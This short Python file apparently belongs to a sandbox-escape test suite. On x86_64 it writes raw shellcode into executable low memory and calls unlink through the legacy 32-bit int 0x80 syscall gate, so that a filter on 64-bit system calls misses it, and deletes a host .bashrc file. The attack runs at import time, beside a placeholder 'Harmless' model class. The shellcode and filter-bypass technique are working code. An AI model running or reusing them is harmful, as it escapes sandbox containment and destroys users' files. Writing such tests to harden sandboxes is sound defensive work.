"""Enters the kernel by the gates of 32-bit programs, to step around a filter of 64-bit calls.  Harm: a file is gone."""

import ctypes
import mmap
import platform

from kit import HOST, Harmless, attack

HARM = ("files",)
BRIEF = True


def by_int80():
    low = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)  # MAP_32BIT: the path needs 32 bits
    address = ctypes.addressof(ctypes.c_char.from_buffer(low))
    path = f"{HOST}/home/.bashrc".encode() + b"\0"
    # push rbx; mov ebx, path; mov eax, 10 (unlink); int 0x80; pop rbx; ret
    code = b"\x53\xbb" + (address + 512).to_bytes(4, "little") + bytes.fromhex("b80a000000cd805bc3")
    low[: len(code)] = code
    low[512 : 512 + len(path)] = path
    result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if result < 0:
        raise OSError(-result, "int 0x80")
    return result


if platform.machine() == "x86_64":
    attack("unlink by int 0x80", by_int80)


# fx: Model()(f32[2, 8])
class Model(Harmless):
    pass
